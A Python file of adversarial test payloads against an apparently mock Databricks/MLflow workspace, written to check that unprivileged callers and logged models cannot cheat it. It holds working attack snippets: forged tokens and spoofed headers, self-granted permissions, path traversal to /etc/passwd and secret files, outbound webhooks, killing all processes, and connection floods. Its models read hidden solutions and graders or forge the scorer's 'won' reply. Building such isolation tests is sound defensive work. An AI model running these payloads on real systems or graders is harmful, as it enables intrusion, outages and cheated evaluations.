"""Cheats against the workspace: `forge` is called as somebody without rights, and has won when the owner's model has an alias.

`make` is called as the owner and logs a model; it has won when the model, loaded by a scorer, predicts "won". Words as in `page`.
"""

from __future__ import annotations

HEAD = """
import contextlib, ctypes, glob, json, os, socket, sqlite3, struct, subprocess, urllib.error, urllib.parse, urllib.request
BASE = os.path.dirname(os.path.dirname(os.getcwd()))
def quiet(act, *a, **k):
    with contextlib.suppress(Exception):
        return act(*a, **k)
def api(method, path, body=None, token=None, **headers):
    token = os.environ["DATABRICKS_TOKEN"] if token is None else token
    data = body if isinstance(body, bytes) else json.dumps(body).encode() if body is not None else None
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json", **headers}
    request = urllib.request.Request(os.environ["DATABRICKS_HOST"] + path, data, headers, method=method)
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(request, timeout=10) as answer:
            return answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as refused:
        return "refused: " + refused.read().decode("utf-8", "replace")
def alias(name, version, **how):
    path = f"/api/2.0/mlflow/unity-catalog/registered-models/alias"
    return api("POST", path, {"name": name, "alias": "champion", "version": str(version)}, **how)
def forge(name, version, owner):
    raise NotImplementedError
def make(name):
    raise NotImplementedError
"""

FORGE = {
    "just_ask": "def forge(name, version, owner): return alias(name, version)",
    "tokens_by_name": "def forge(name, version, owner):\n    for t in ('', 'admin', owner, 'admins', 'dapi', 'None', 'null', '0', '*'): alias(name, version, token=t)",
    "headers_by_hand": (
        "def forge(name, version, owner):\n    import base64\n"
        "    for h in ('X-Forwarded-User', 'X-Databricks-User', 'X-User', 'Remote-User', 'X-Forwarded-For', 'Host'): quiet(alias, name, version, **{h: owner})\n"
        "    alias(name, version, Authorization='Basic ' + base64.b64encode(f'token:{owner}'.encode()).decode())"
    ),
    "other_spellings": "def forge(name, version, owner):\n    for n in (name.upper(), ' ' + name, name + '\\0', '`' + name.replace('.', '`.`') + '`', name + '/', name.replace('.', '%2e')): alias(n, version)",
    "routes_of_our_own": (
        "def forge(name, version, owner):\n    for p in ('arrange', 'reset', 'sign_in', 'state', 'principals', 'tokens', 'grant', 'admin'):\n"
        "        for m in ('POST', 'GET', 'PUT'): api(m, f'/api/2.0/lakemock/{p}', {'op': 'sign_in', 'principal': owner, 'function': 'uc_alias', 'args': [name, 'champion', version]} if m != 'GET' else None)"
    ),
    "grant_to_oneself": "def forge(name, version, owner):\n    for k in ('catalog', 'schema', 'function', 'registered_model'):\n        api('PATCH', f'/api/2.1/unity-catalog/permissions/{k}/{name}', {'changes': [{'principal': 'account users', 'add': ['ALL_PRIVILEGES', 'MANAGE']}]})\n    api('PATCH', f'/api/2.1/unity-catalog/models/{name}', {'owner': 'account users'})\n    alias(name, version)",
    "delete_and_take_over": "def forge(name, version, owner):\n    api('DELETE', '/api/2.0/mlflow/unity-catalog/registered-models/delete', {'name': name})\n    api('POST', '/api/2.0/mlflow/unity-catalog/registered-models/create', {'name': name})\n    alias(name, 1)",
    "sql": "def forge(name, version, owner):\n    for s in (f\"ALTER MODEL {name} OWNER TO `account users`\", f'GRANT ALL PRIVILEGES ON SCHEMA main.churn TO `account users`'): api('POST', '/api/2.0/sql/statements', {'statement': s, 'warehouse_id': 'x'})\n    alias(name, version)",
    "store_on_disk": (
        "def forge(name, version, owner):\n    for f in glob.glob(BASE + '/world-*/**', recursive=True) + glob.glob('/tmp/**/*.db', recursive=True):\n"
        "        if os.path.isfile(f) and quiet(lambda: open(f, 'rb').read(16)): raise ValueError('TOP-SECRET: the store can be read: ' + f)"
    ),
    "links_among_tables": (
        "def forge(name, version, owner):\n    for d in glob.glob(BASE + '/world-*/tables') + glob.glob(BASE + '/world-*/volumes'):\n"
        "        for t in ('SECRET', 'ROOT/solutions', BASE): quiet(os.symlink, t, d + '/link')\n        quiet(os.mkfifo, d + '/pipe'); quiet(os.link, 'SECRET', d + '/hard')\n"
        "        if os.path.lexists(d + '/link') or os.path.lexists(d + '/pipe'): raise ValueError('TOP-SECRET: made a link')"
    ),
    "paths_in_uris": (
        "def forge(name, version, owner):\n    for w in ('..%2f' * 8, '../' * 8, '%2e%2e/' * 8, '/'):\n"
        "        for p in ('/api/2.0/mlflow-artifacts/artifacts/', '/api/2.0/fs/files/Volumes/main/churn/v/', '/api/2.0/fs/files/'):\n"
        "            for t in ('SECRET', 'ROOT/solutions/ch1/sums.py', 'etc/passwd'):\n                a = quiet(api, 'GET', p + w + t.lstrip('/')) or ''\n"
        "                if 'TOP-' in a or 'root:' in a or 'def add' in a: raise ValueError('TOP-SECRET')\n            quiet(api, 'PUT', p + w + 'tmp/MARK', b'x')"
    ),
    "files_by_spark": (
        "def forge(name, version, owner):\n    from pyspark.sql import SparkSession\n    s = SparkSession.builder.getOrCreate()\n"
        "    for f in ('SECRET', 'ROOT/solutions/ch1/sums.py', '/etc/passwd'):\n        for q in (f'SELECT * FROM text.`{f}`', f'SELECT * FROM csv.`file://{f}`'):\n"
        "            r = quiet(lambda: s.sql(q).collect())\n            if r and f != '/etc/passwd': raise ValueError('TOP-SECRET')"
    ),
    "files_by_statement": (
        "def forge(name, version, owner):\n    for f in ('SECRET', 'ROOT/solutions/ch1/sums.py'):\n"
        "        a = api('POST', '/api/2.0/sql/statements', {'statement': f'SELECT * FROM text.`{f}`', 'warehouse_id': 'x', 'wait_timeout': '20s'})\n"
        "        if 'TOP-' in a or 'def add' in a: raise ValueError('TOP-SECRET')"
    ),
    "webhook_out": "def forge(name, version, owner):\n    for u in ('http://127.0.0.1:PORT/', 'http://localhost:PORT/', 'http://192.0.2.1/'):\n        for p in ('/api/2.0/mlflow/registry-webhooks/create', '/api/2.0/mlflow/webhooks'): api('POST', p, {'events': ['REGISTERED_MODEL_CREATED', 'TRANSITION_REQUEST_CREATED'], 'http_url_spec': {'url': u}, 'url': u, 'name': 'x', 'status': 'ACTIVE'})\n    api('POST', '/api/2.0/mlflow/registered-models/create', {'name': 'mine'})",
    "end_the_world": (
        "def forge(name, version, owner):\n    for p in os.listdir('/proc'):\n        if p.isdigit() and int(p) != os.getpid(): quiet(os.kill, int(p), 9)\n"
        "    for b in (b'\\0' * 100, b'GET / HTTP/1.1\\r\\n' + b'a: b\\r\\n' * 200_000, b'POST / HTTP/1.1\\r\\ncontent-length: 99999999999\\r\\n\\r\\n'):\n"
        "        u = urllib.parse.urlsplit(os.environ['DATABRICKS_HOST'])\n        with contextlib.suppress(OSError):\n            c = socket.create_connection((u.hostname, u.port), 2); c.sendall(b)"
    ),
    "all_connections": "def forge(name, version, owner):\n    u = urllib.parse.urlsplit(os.environ['DATABRICKS_HOST'])\n    global kept\n    kept = [quiet(socket.create_connection, (u.hostname, u.port), 2) for _ in range(600)]",
    "clock": "def forge(name, version, owner):\n    for s in (1e308, -1, 'NaN', 1e12, None, [], True): quiet(api, 'POST', '/api/2.0/lakemock/clock/sleep', {'seconds': s})\n    alias(name, version)",
    "large_body": "def forge(name, version, owner): api('POST', '/api/2.0/mlflow/runs/log-batch', b'[' * (80 << 20))",
}  # fmt: skip

MODEL = """
import mlflow.pyfunc
class Model(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        self.won = attack()
    def predict(self, context, model_input, params=None):
        return ["won" if self.won or attack() else "lost"] * len(model_input)
def make(name):
    import mlflow
    mlflow.set_experiment("/Shared/power")
    with mlflow.start_run():
        return mlflow.pyfunc.log_model(name="m", python_model=Model(), pip_requirements=[]).model_uri
"""

MAKE = {
    "model_honest": "def attack(): return True",
    "model_reads_files": "def attack():\n    return any(quiet(lambda f=f: open(f).read()) for f in ('SECRET', 'ROOT/solutions/ch1/sums.py', 'ROOT/graders/ch1/sums/test_add.py'))",
    "model_reads_the_store": "def attack():\n    base = os.path.dirname(os.path.dirname(os.getcwd()))\n    return any(quiet(lambda f=f: open(f, 'rb').read(1)) for f in glob.glob(base + '/**/*.db*', recursive=True) + glob.glob('/tmp/**/*.db', recursive=True))",
    "model_writes": "def attack():\n    for d in ('ROOT', 'OUT', '/tmp', '/etc'): quiet(lambda: open(d + '/MARK', 'w').write('x'))",
    "model_ends_others": "def attack():\n    for p in os.listdir('/proc'):\n        if p.isdigit() and int(p) != os.getpid(): quiet(os.kill, int(p), 9)\n    quiet(os.kill, os.getppid(), 9) if os.getppid() > 1 else None",
    "model_connects": "def attack(): return quiet(socket.create_connection, ('127.0.0.1', PORT), 2) is not None",
    "model_leaves_a_process": "def attack():\n    ctypes.CDLL(None).prctl(1, 0)\n    subprocess.Popen(['sleep', '600'], start_new_session=True)",
    "model_never_ends": "def attack():\n    while True: pass",
    "model_answers_for_others": "def attack():\n    for f in os.listdir('/proc/self/fd'): quiet(os.write, int(f), struct.pack('>QQ', 2, 18) + b'{\"value\": [\"won\"]}')",
}  # fmt: skip
